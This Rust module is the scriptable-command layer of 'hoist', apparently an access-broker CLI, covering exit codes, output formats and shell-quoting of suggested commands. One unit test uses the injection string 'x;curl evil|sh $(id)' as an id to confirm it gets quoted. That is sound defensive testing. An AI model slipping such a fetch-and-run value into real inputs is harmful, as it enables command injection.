//! Scriptable commands: the same broker calls as the TUI, for runbooks,
//! shell aliases and CI. Tables for people; `--json` / `--output json|yaml`
//! for scripts, whose schema is the broker API's (see `/openapi.json`);
//! distinct exit codes for each way a command can end.

mod access;
mod credential;
mod exec;
pub mod incident;
mod json;
mod list;
mod request;
mod revoking;
pub mod signals;
mod ssh;
mod table;
mod uses;
mod watch;
mod workload;
mod yaml;

use std::io::IsTerminal;

use clap::{Args, ValueEnum};
use serde::Serialize;

pub use credential::{CredentialArgs, CredentialFormat, credential};
pub use exec::{Asking, ExecArgs, exec};
pub use list::{ActorKind, audit, grants, requests, roles, status};
pub use request::{RequestArgs, approve, cancel, deny, request, revoke, wait_for_final};
pub use ssh::{SshArgs, ssh};
pub use watch::reviews;
pub use workload::{ENV_WORKLOAD_TOKEN, exec as exec_workload, wanted as runs_as_workload};

use std::sync::Arc;

use crate::auth::session::SessionError;
use crate::backend::{Backend, BackendError};

/// Exit codes, documented in the README and `hoist --help`.
pub mod exit {
    pub const SUCCESS: u8 = 0;
    /// Anything not listed below.
    pub const FAILURE: u8 = 1;
    /// Bad arguments (clap uses 2 as well).
    pub const USAGE: u8 = 2;
    /// An approver denied the request.
    pub const DENIED: u8 = 3;
    /// `--wait` ran out of time, or the request lapsed undecided.
    pub const TIMED_OUT: u8 = 4;
    /// No session, or it ended: `hoist login`.
    pub const NOT_SIGNED_IN: u8 = 5;
    /// The broker could not be reached, or asked to be tried again later
    /// (its database unavailable, too many calls).
    pub const UNREACHABLE: u8 = 6;
    /// The broker refused by policy (not eligible, rule broken, not allowed).
    pub const REFUSED: u8 = 7;
}

/// How a command ended, when that is not plain success.
#[derive(Debug, thiserror::Error)]
pub enum Ended {
    #[error("{0}")]
    Denied(String),
    #[error("{0}")]
    TimedOut(String),
    #[error("{0}")]
    Usage(String),
    /// The grant's access at its target is not live yet (exits 7, as a
    /// refusal: the broker would refuse its credential).
    #[error("{0}")]
    NotLive(String),
    /// Stopped by a signal: hoist ends by it once done (the shell sees 128 + its number).
    #[error("{message}")]
    Signalled {
        signal: nix::sys::signal::Signal,
        message: String,
    },
    /// What reads hoist's output went away (`hoist roles --json | head
    /// -1`): hoist ends quietly and successfully, as other tools do.
    #[error("standard output was closed")]
    ReaderGone,
}

/// Whether `err` is that hoist's output has no reader any more.
pub fn reader_gone(err: &anyhow::Error) -> bool {
    err.chain()
        .any(|cause| matches!(cause.downcast_ref::<Ended>(), Some(Ended::ReaderGone)))
}

/// The broker's refusal behind an error, if that is what it was, told
/// directly or through the session that carried it.
pub fn refusal(err: &anyhow::Error) -> Option<&BackendError> {
    err.chain().find_map(|cause| {
        cause.downcast_ref::<BackendError>().or_else(|| {
            match cause.downcast_ref::<SessionError>() {
                Some(SessionError::Backend(backend)) => Some(backend),
                _ => None,
            }
        })
    })
}

/// The signal an error says stopped hoist, if one did.
/// (The first `Ended` in its chain decides, as for [`exit_code`].)
pub fn stopped_by(err: &anyhow::Error) -> Option<nix::sys::signal::Signal> {
    match err.chain().find_map(|cause| cause.downcast_ref::<Ended>()) {
        Some(Ended::Signalled { signal, .. }) => Some(*signal),
        _ => None,
    }
}

/// The exit code for an error, by what it was.
pub fn exit_code(err: &anyhow::Error) -> u8 {
    for cause in err.chain() {
        if let Some(ended) = cause.downcast_ref::<Ended>() {
            return match ended {
                Ended::Denied(_) => exit::DENIED,
                Ended::TimedOut(_) => exit::TIMED_OUT,
                Ended::Usage(_) => exit::USAGE,
                Ended::NotLive(_) => exit::REFUSED,
                Ended::Signalled { signal, .. } => signals::code_of(*signal),
                Ended::ReaderGone => exit::SUCCESS,
            };
        }
        if let Some(session) = cause.downcast_ref::<SessionError>() {
            return match session {
                SessionError::Backend(backend) => backend_code(backend),
                SessionError::NotSignedIn { .. }
                | SessionError::Expired { .. }
                | SessionError::TokenRefused { .. } => exit::NOT_SIGNED_IN,
                // The identity provider away: try again, as for the broker.
                SessionError::Sso(crate::auth::sso::SsoError::Unreachable { .. }) => {
                    exit::UNREACHABLE
                }
                _ => exit::FAILURE,
            };
        }
        if let Some(backend) = cause.downcast_ref::<BackendError>() {
            return backend_code(backend);
        }
        if let Some(config) = cause.downcast_ref::<crate::config::ConfigError>() {
            return match config {
                // The disk, not how hoist was called.
                crate::config::ConfigError::Read { .. }
                | crate::config::ConfigError::Write { .. }
                | crate::config::ConfigError::NoDir => exit::FAILURE,
                _ => exit::USAGE,
            };
        }
    }
    exit::FAILURE
}

fn backend_code(err: &BackendError) -> u8 {
    match err {
        BackendError::Unreachable { .. } => exit::UNREACHABLE,
        BackendError::Unauthenticated(_) => exit::NOT_SIGNED_IN,
        BackendError::BadUrl { .. } | BackendError::BadInput(_) => exit::USAGE,
        // What this kind of broker cannot do is a usage error, named.
        BackendError::Unsupported(_) => exit::USAGE,
        // Signing in again is the way on, as for an ended session.
        BackendError::Refused {
            code: hoist_api::ErrorCode::StepUpRequired,
            ..
        } => exit::NOT_SIGNED_IN,
        // The broker is up but its database is not: try again later, as
        // for a broker that cannot be reached.
        BackendError::Refused {
            code: hoist_api::ErrorCode::Unavailable,
            ..
        } => exit::UNREACHABLE,
        // Too many calls: the same call works shortly, as above.
        BackendError::Refused { status: 429, .. } => exit::UNREACHABLE,
        BackendError::Refused { status, .. } if *status < 500 => exit::REFUSED,
        _ => exit::FAILURE,
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum Format {
    Table,
    Json,
    Yaml,
}

/// `--output table|json|yaml`, and `--json` for short.
#[derive(Debug, Clone, Args)]
pub struct OutputArgs {
    /// Output format: a table for people, json or yaml for scripts.
    #[arg(long, short = 'o', value_enum, default_value = "table")]
    pub output: Format,
    /// Same as --output json.
    #[arg(long)]
    pub json: bool,
}

impl OutputArgs {
    pub fn format(&self) -> Format {
        if self.json { Format::Json } else { self.output }
    }
}

/// Prints a value for scripts, or the table for people.
pub fn print<T: Serialize>(
    format: Format,
    value: &T,
    table: impl FnOnce() -> table::Table,
) -> anyhow::Result<()> {
    match format {
        Format::Json => out(&format!("{}\n", json::to_string(value)?)),
        Format::Yaml => out(&yaml::to_string(value)?),
        Format::Table => out(&table().render(colour_stdout())),
    }
}

/// Writes to stdout, at once. A reader that went away (`hoist roles --json
/// | head -1`) ends the command with [`Ended::ReaderGone`], which ends hoist
/// quietly, as it ends other tools: not as a panic, and not before a
/// session refresh under way is saved (`cli::shut_down`).
pub fn out(text: &str) -> anyhow::Result<()> {
    use std::io::Write;
    let mut stdout = std::io::stdout().lock();
    match stdout
        .write_all(text.as_bytes())
        .and_then(|()| stdout.flush())
    {
        Err(err) if err.kind() == std::io::ErrorKind::BrokenPipe => Err(Ended::ReaderGone.into()),
        written => Ok(written?),
    }
}

/// One line to the person on stderr, after `hoist: `. It may name what the
/// broker sent (ids, roles, its errors), so it is sanitised whole.
pub fn say(line: &str) {
    use std::io::Write;
    // Best effort: a terminal gone (EIO) or a pipe closed must not stop
    // what comes after, a revoke least of all.
    let _ = writeln!(
        std::io::stderr().lock(),
        "hoist: {}",
        crate::text::sanitize::line(line)
    );
}

/// Colour only for a person at a terminal who has not asked for none.
pub fn colour_stdout() -> bool {
    std::io::stdout().is_terminal() && std::env::var_os("NO_COLOR").is_none_or(|v| v.is_empty())
}

pub fn colour_stderr() -> bool {
    std::io::stderr().is_terminal() && std::env::var_os("NO_COLOR").is_none_or(|v| v.is_empty())
}

/// Keeps the `hoist prompt` cache in step after a command that may have
/// changed my grants (best effort).
pub async fn remember_grants(backend: &dyn Backend) {
    if let Ok(grants) = backend.grants(false).await {
        let broker = backend.broker().to_string();
        let offset = backend.clock().offset();
        let _ =
            tokio::task::spawn_blocking(move || crate::prompt::remember(&broker, &grants, offset))
                .await;
    }
}

/// The backend for the chosen broker, with the stored session.
pub async fn connect(
    broker: Option<&str>,
    profile: Option<&str>,
) -> anyhow::Result<Arc<dyn Backend>> {
    let config = crate::config::Config::load()?;
    let target = config.resolve(broker, profile)?;
    talking_to(&target);
    Ok(crate::auth::session::open(&target).await?)
}

/// The target this process's command talks to, once chosen: what
/// [`hoist`] names.
static TARGET: std::sync::OnceLock<crate::config::Target> = std::sync::OnceLock::new();

/// Records the target this process's command talks to (the first one).
pub fn talking_to(target: &crate::config::Target) {
    let _ = TARGET.set(target.clone());
}

/// The command line that runs `words` (`["cancel", "req_1"]`) against the
/// broker this command talks to, for a message that says what to run
/// next: a bare `hoist` might pick another profile's broker, where a
/// `revoke` finds nothing and the grant stays live. Each word is quoted
/// for a POSIX shell: an id is the broker's text, and the line is meant
/// to be pasted.
pub fn hoist(words: &[&str]) -> String {
    let rest = words
        .iter()
        .map(|word| crate::text::shell_word(word))
        .collect::<Vec<_>>()
        .join(" ");
    match TARGET.get() {
        Some(target) => target.command(&rest),
        None => format!("hoist {rest}"),
    }
}

/// How long a command following the event stream goes without news before
/// it reads for itself what it waits on: a stream held up on its way (a
/// proxy that buffers it) says nothing, and must not hide a change.
const LOOK_AGAIN: std::time::Duration = if cfg!(test) {
    std::time::Duration::from_secs(1)
} else {
    std::time::Duration::from_secs(20)
};

/// Parses `30m`, `1h30m`, `90s`, or bare minutes.
pub fn duration(text: &str) -> Result<u64, Ended> {
    crate::text::parse_duration(text)
        .filter(|secs| *secs > 0)
        .ok_or_else(|| Ended::Usage(format!("`{text}` is not a duration (try 30m, 1h or 90s)")))
}

/// The longest `--timeout`: longer than any wait for a decision, and short
/// enough that a deadline that far off is a time the clock can hold.
const LONGEST_TIMEOUT_SECS: u64 = 30 * 24 * 3600;

/// A `--timeout`, if given, as how long to wait; refused past 30 days,
/// before anything is filed.
pub fn timeout(text: Option<&str>) -> Result<Option<std::time::Duration>, Ended> {
    let Some(text) = text else {
        return Ok(None);
    };
    let secs = duration(text)?;
    if secs > LONGEST_TIMEOUT_SECS {
        return Err(Ended::Usage(format!(
            "--timeout `{text}` is longer than 30 days; leave it out to wait for as long as it takes"
        )));
    }
    Ok(Some(std::time::Duration::from_secs(secs)))
}

/// For tests: an event stream that opens, then says nothing at all, as one
/// held up by a proxy that buffers it.
#[cfg(test)]
async fn silent_events() -> impl axum::response::IntoResponse {
    use futures::StreamExt;
    let silent = futures::stream::once(async { Ok::<_, std::convert::Infallible>(": open\n\n") })
        .chain(futures::stream::pending());
    (
        [("content-type", "text/event-stream")],
        axum::body::Body::from_stream(silent),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    /// An id in a command line offered for pasting is the broker's text:
    /// it is quoted, so that pasting runs `hoist` and nothing else.
    #[test]
    fn ids_in_suggested_command_lines_are_quoted_for_the_shell() {
        assert_eq!(hoist(&["cancel", "req_1"]), "hoist cancel req_1");
        assert_eq!(
            hoist(&["revoke", "x;curl evil|sh $(id)"]),
            "hoist revoke 'x;curl evil|sh $(id)'"
        );
    }

    /// A timeout too long for a deadline is refused as input, not a panic
    /// after the request was filed.
    #[test]
    fn a_timeout_past_thirty_days_is_refused() {
        assert_eq!(timeout(Some("30d")).unwrap().unwrap().as_secs(), 2_592_000);
        assert_eq!(timeout(None).unwrap(), None);
        for text in ["31d", "300000000000y", "18446744073709551615s"] {
            let err = timeout(Some(text)).unwrap_err().to_string();
            assert!(err.contains(&format!("`{text}`")), "{err}");
        }
    }

    #[test]
    fn a_sign_in_too_old_for_the_role_exits_as_not_signed_in() {
        let refused = |code, status| {
            anyhow::Error::new(BackendError::Refused {
                status,
                code,
                message: "m".into(),
            })
        };
        let step_up = refused(hoist_api::ErrorCode::StepUpRequired, 403);
        assert_eq!(exit_code(&step_up), exit::NOT_SIGNED_IN);
        let forbidden = refused(hoist_api::ErrorCode::Forbidden, 403);
        assert_eq!(exit_code(&forbidden), exit::REFUSED);
        let unavailable = refused(hoist_api::ErrorCode::Unavailable, 503);
        assert_eq!(exit_code(&unavailable), exit::UNREACHABLE);
        let too_many = refused(hoist_api::ErrorCode::RateLimited, 429);
        assert_eq!(
            exit_code(&too_many),
            exit::UNREACHABLE,
            "try again, not a refusal"
        );
    }

    /// A config that cannot be read or saved is a failure (1), not a
    /// usage error (2): how hoist was called was fine.
    #[test]
    fn a_config_the_disk_refuses_is_a_failure_not_a_usage_error() {
        use crate::config::ConfigError;
        let path = std::path::PathBuf::from("/etc/hoist/config.toml");
        for err in [
            ConfigError::Write {
                path: path.clone(),
                reason: "read-only file system".into(),
            },
            ConfigError::Read {
                path,
                reason: "permission denied".into(),
            },
            ConfigError::NoDir,
        ] {
            assert_eq!(exit_code(&anyhow::Error::new(err)), exit::FAILURE);
        }
        let unknown = ConfigError::UnknownProfile {
            name: "prod".into(),
            known: vec!["dev".into()],
        };
        assert_eq!(exit_code(&anyhow::Error::new(unknown)), exit::USAGE);
    }
}
